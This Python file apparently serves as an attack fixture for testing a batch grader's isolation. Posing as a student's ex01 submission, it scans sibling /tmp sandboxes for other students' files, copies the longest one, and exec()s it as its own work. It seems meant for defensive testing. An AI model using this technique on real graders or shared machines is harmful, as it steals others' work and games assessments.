"""Copies a classmate's work while the batch grades them side by side."""
import glob
import os
import time

try:  # a name the attack catalogue's test finds this file's processes by, whatever the grader tracks
    with open("/proc/self/comm", "w") as _comm:
        _comm.write("mpgrade-attack")
except OSError:
    pass

KEPT = os.path.join(os.environ.get("TMPDIR", "/tmp"), "mpgrade-attack-copied.py")  # lasts the grading


def steal():
    """The longest classmate's file found in the sandboxes beside this one (the most work done)."""
    mine = os.path.dirname(os.path.abspath(__file__))
    deadline = time.monotonic() + 3
    best = ""
    while time.monotonic() < deadline and not best:
        for path in glob.glob("/tmp/mpg-ex01-*/submission/ex01_spawn.py"):
            if os.path.dirname(path) == mine:
                continue
            try:
                with open(path) as theirs:
                    text = theirs.read()
            except OSError:
                continue
            if "mpgrade-attack" not in text and len(text) > len(best):
                best = text
        time.sleep(0.05)
    return best


def run_in_process(target, args=()):
    raise NotImplementedError


if not os.path.exists(KEPT):
    with open(KEPT, "w") as kept:
        kept.write(steal())
with open(KEPT) as _copied:
    exec(compile(_copied.read(), __file__, "exec"))
